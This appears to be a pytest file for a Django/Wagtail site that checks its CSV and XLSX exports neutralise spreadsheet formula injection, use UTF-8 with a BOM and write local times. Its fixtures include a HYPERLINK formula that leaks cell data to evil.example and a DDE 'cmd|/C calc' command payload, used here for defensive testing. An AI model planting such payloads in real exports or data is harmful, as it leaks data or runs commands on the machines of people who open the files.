"""Every CSV the site produces is safe to open in a spreadsheet: formulas typed into the data stay text,
Vietnamese reads correctly (UTF-8 with a BOM), and times are local ISO-8601 without microseconds."""

import csv
import datetime
import io
import re
from decimal import Decimal

from django.contrib.auth.models import Group
from django.utils import timezone

import pytest

from core.csv_export import cell
from investors.applications.models import ApplicationStatus, InvestmentApplication
from tests.factories.accounts import StaffFactory, sign_in_staff
from tests.factories.applications import ApplicationFactory, officer
from tests.factories.land import ParcelFactory, ZoneFactory
from tests.factories.training import CohortFactory, RegistrationFactory, TraineeFactory, programme
from training.models import Registration

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
# 03:15:00.123456 UTC is 10:15:00 in Đà Lạt (UTC+7); microseconds must not reach the file.
MOMENT = datetime.datetime(2026, 11, 29, 3, 15, 0, 123456, tzinfo=datetime.UTC)
LOCAL_MOMENT = "2026-11-29T10:15:00+07:00"
LOCAL_ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+07:00$")


def read_csv(response):
    """The rows of a CSV download, after checking that it starts with a UTF-8 BOM."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "charset=utf-8" in response["Content-Type"].lower()
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith("\ufeff".encode()), body[:40]
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))


def column(rows, heading):
    header = rows[0]
    index = header.index(heading)
    return [row[index] for row in rows[1:]]


def test_a_shared_cell_rule_neutralises_every_formula_trigger_and_keeps_numbers():
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert cell(text) == "'" + text
    assert cell("Nguyễn -1") == "Nguyễn -1"
    assert cell(Decimal("-12.50")) == "-12.50"  # a number from a numeric column stays a number
    assert cell(-3) == "-3"
    assert cell(MOMENT) == LOCAL_MOMENT
    assert cell(datetime.date(2026, 11, 29)) == "2026-11-29"
    assert cell(None) == ""


def test_the_applications_inbox_csv_neutralises_formulas_and_writes_local_times(client):
    ApplicationFactory(
        status=ApplicationStatus.SCREENING,
        reference="DLSP-2026-000001",
        company_name=FORMULA,
        project_title="-2+3 Trung tâm phần mềm",
        submitted_at=timezone.now(),
    )
    InvestmentApplication.objects.update(submitted_at=MOMENT)
    sign_in_staff(client, officer())
    rows = read_csv(client.get("/admin/applications/inbox/?export=csv"))
    assert len(rows) == 2
    header = rows[0]
    company = column(rows, header[1])[0]
    assert company == "'" + FORMULA
    assert "'-2+3 Trung tâm phần mềm" in rows[1]
    assert LOCAL_MOMENT in rows[1]
    assert "2500000.00" in rows[1]  # capital stays a number


def test_the_training_roster_csv_neutralises_formulas_and_writes_local_times(client, site_tree):
    page_vi, _page_en = programme(site_tree)
    cohort = CohortFactory.for_programme(page_vi, code="SEC-09")
    trainee = TraineeFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0", phone="+84 263 382 0000")
    RegistrationFactory(cohort=cohort, trainee=trainee, current_job="\t=1+1")
    Registration.objects.update(created_at=MOMENT)
    coordinator = TraineeFactory(is_staff=True)
    coordinator.groups.add(Group.objects.get(name="Training coordinator"))
    sign_in_staff(client, coordinator)
    rows = read_csv(client.get(f"/admin/training/registrations/?cohort={cohort.pk}&export=csv"))
    assert len(rows) == 2
    row = rows[1]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
    assert "'+842633820000" in row  # stored in E.164
    assert "'\t=1+1" in row
    assert LOCAL_MOMENT in row


def test_the_parcel_open_data_csv_neutralises_every_trigger(client, site_tree):
    from land.demo.seeding import seed_pages

    seed_pages(site_tree)
    zone = ZoneFactory(code="A")
    ParcelFactory(zone=zone, code="A-1", summary_en="-1+1 view of the lake", summary_vi="\r=1+1")
    rows = read_csv(client.get("/en/land/parcels.csv"))
    assert column(rows, "summary") == ["'-1+1 view of the lake"]
    rows = read_csv(client.get("/vi/quy-dat/parcels.csv"))
    assert column(rows, "summary") == ["'\r=1+1"]
    assert float(column(rows, "longitude")[0]) > 108  # coordinates stay numbers


def test_the_transparency_figures_csv_neutralises_target_names_and_writes_local_times(client, site_tree):
    from core.seeding import SeedContext
    from transparency.demo.seeding import seed_transparency
    from transparency.models import Target

    seed_transparency(SeedContext(homes=site_tree))
    Target.objects.filter(pk=Target.objects.order_by("pk").first().pk).update(name_en=FORMULA)
    rows = read_csv(client.get("/en/transparency/figures.csv"))
    assert "'" + FORMULA in column(rows, "name")
    assert all(LOCAL_ISO.match(value) for value in column(rows, "computed_at"))


def test_wagtail_reports_export_csv_by_the_same_rules(client, site_tree):
    """Wagtail's own listings (here the site history) go through the same writer as the project's."""
    home = site_tree["en"]
    home.title = FORMULA
    home.save_revision().publish()
    sign_in_staff(client, StaffFactory(is_superuser=True))
    rows = read_csv(client.get("/admin/reports/site-history/?export=csv"))
    cells = [value for row in rows[1:] for value in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    times = [value for value in cells if value[:4].isdigit() and "T" in value]
    assert times and all(LOCAL_ISO.match(value) for value in times)


def test_xlsx_exports_show_local_wall_clock_times(client):
    from openpyxl import load_workbook

    ApplicationFactory(status=ApplicationStatus.SCREENING, reference="DLSP-2026-000002", submitted_at=MOMENT)
    InvestmentApplication.objects.update(submitted_at=MOMENT)
    sign_in_staff(client, officer())
    response = client.get("/admin/applications/inbox/?export=xlsx")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    values = [value for row in load_workbook(io.BytesIO(body)).active.values for value in row]
    assert datetime.datetime(2026, 11, 29, 10, 15) in [
        value.replace(microsecond=0) for value in values if isinstance(value, datetime.datetime)
    ]
